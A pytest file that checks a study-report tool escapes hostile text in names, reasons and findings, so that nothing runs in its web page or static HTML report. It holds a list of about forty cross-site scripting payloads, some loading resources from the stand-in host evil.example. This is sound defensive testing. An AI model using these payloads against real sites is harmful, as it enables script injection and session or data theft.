"""Names, reasons and findings come from files that others wrote: none of them may run."""

from __future__ import annotations

import itertools
import json
import re
import shutil

import pandas as pd
import pytest

from stratigraph.records import write_record
from stratigraph.records.files import read_json, write_json, write_text
from stratigraph.records.store import parquet
from stratigraph.report.data import ReportData
from stratigraph.report.findings import finding_rows
from stratigraph.report.write import page_facts, render
from stratigraph.study import load_study

from .conftest import start, stop

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x'</style>",
    "<base href=//evil.example/>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "'-alert(1)-'",
    '"-alert(1)-"',
    '\\";alert(1)//',
    "${alert(1)}",
    "{{alert(1)}}",
    "{% raw %}<script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus='",
    "\u2028<script>alert(1)</script>",
]
FIELDS = (
    "name", "description", "state", "reason", "warning", "statement", "contrast", "why",
    "undefined because",
)  # fmt: skip


UNFOLD = "document.querySelectorAll('details').forEach(fold => fold.open = true)"
RUNS, LETTERS = 4, 100  # that the study has, and that its name may have


def named(payloads):
    """What of some payloads a study may be called."""
    names = (re.sub(r"[^\w<>()+=.,'\" -]", "", payload).strip() for payload in payloads)
    return "x" + " ".join(names)


def _shown(text):
    return " ".join(text.split())


def _sets():
    """The payloads in sets that stand in one page: a run for each, and a name that holds all."""
    sets = []
    for payload in sorted(PAYLOADS, key=len, reverse=True):
        for some in sets:
            if len(some) < RUNS and len(named([*some, payload])) <= LETTERS:
                some.append(payload)
                break
        else:
            sets.append([payload])
    return sets


@pytest.fixture(scope="module")
def hostile(tiny_study, tmp_path_factory):
    """A copy of the study, and what puts a text into nine of its fields."""
    path = tmp_path_factory.mktemp("hostile") / "study"
    shutil.copytree(tiny_study.path, path)
    _, body = (path / "study.yaml").read_text().split("description:", 1)
    body = body.split("\n", 1)[1]
    findings = {
        key: value for key, value in read_json(path / "findings.json").items() if key != "seal"
    }
    runs = sorted((path / "runs").iterdir())
    assert len(runs) == RUNS
    states = [read_json(run / "state.json") for run in runs]
    matrix = path / "similarity" / "debiased_cka"
    labels = pd.read_parquet(matrix / "labels.parquet")
    values = (matrix / "values.npy").read_bytes()
    about = read_json(matrix / "manifest.json")["about"]

    def put(payloads):
        """Each of them in each field; the last in those of runs and rows that are left over."""
        name, quoted = json.dumps(named(payloads)), json.dumps(" ".join(payloads))
        write_text(path / "study.yaml", f"name: {name}\ndescription: {quoted}\n{body}")
        of = [*payloads, *payloads[-1:] * (RUNS - len(payloads))]
        for run, state, payload in zip(runs, states, of, strict=True):
            told = {"state": payload, "reason": payload, "signs": [payload]}
            write_json(run / "state.json", {**state, **told})
        rows = [
            {**row, "statement": payload, "contrast": payload, "why": payload}
            for row, payload in zip(findings["findings"], itertools.cycle(payloads))
        ]
        write_json(path / "findings.json", {**findings, "findings": rows})
        reasons = [payloads[row % len(payloads)] for row in range(len(labels))]

        def fill(files):
            files.add("values.npy", values)
            files.add("labels.parquet", parquet(labels.assign(reason=reasons)))

        write_record(matrix, fill, about)

    put(PAYLOADS[:1])
    return path, put


def test_no_payload_runs_in_the_page(hostile, open_page):
    path, put = hostile
    assert len(PAYLOADS) * len(FIELDS) == 360
    assert sorted(payload for some in _sets() for payload in some) == sorted(PAYLOADS)
    process, page_of = start(path)
    page = open_page(page_of.address)
    try:
        for payloads in _sets():
            before = page_of.ask("states")
            put(payloads)
            while page_of.ask("states")["results"] == before["results"]:
                pass  # a look at the files is believed for half a second
            page.goto(page_of.address)
            page.wait_for_selector("#findings .verdict")
            # Each stands there as text, to the letter, in all of the fields that this view shows.
            page.evaluate(UNFOLD)
            shown = _shown(page.locator("main").inner_text())
            for payload in payloads:
                assert shown.count(_shown(payload)) >= 7, payload
            assert page.locator("h1").inner_text() == _shown(named(payloads))
            assert page.locator("main script, main iframe, main object, main img").count() == 0
        run = next(iter(load_study(path).runs))
        page.goto(f"{page_of.address}heat?y_step=last&pair={run},12,z_mean,{run},12,z_mean")
        page.wait_for_selector("#pair svg")
    finally:
        page.close()
        assert stop(process) == 0


@pytest.mark.parametrize("every", [4, pytest.param(1, marks=pytest.mark.full)])
def test_no_payload_runs_in_the_report(hostile, browser, tmp_path, every):
    """Every fourth set of payloads, and all in `make test-rest`: each takes a report."""
    path, put = hostile
    said = []
    page = browser.new_page()
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("request", lambda r: r.url.startswith("file:") or said.append(r.url))
    for index, payloads in enumerate(_sets()[::every]):
        put(payloads)
        study = load_study(path)
        html = render({}, {}, page_facts(ReportData(study)))
        file = tmp_path / f"{index}.html"
        file.write_text(html)
        page.goto(file.as_uri())
        rows = finding_rows(study.findings)
        page.evaluate(UNFOLD)
        asked, others = page.locator("#findings .verdict"), page.locator("#not-asked tbody tr")
        assert asked.count() + others.count() == len(rows)
        assert page.locator("h1").inner_text() == _shown(named(payloads))
        shown = _shown(page.locator("main").inner_text())
        for payload in payloads:
            assert shown.count(_shown(payload)) >= 3, payload
    page.close()
    assert said == []
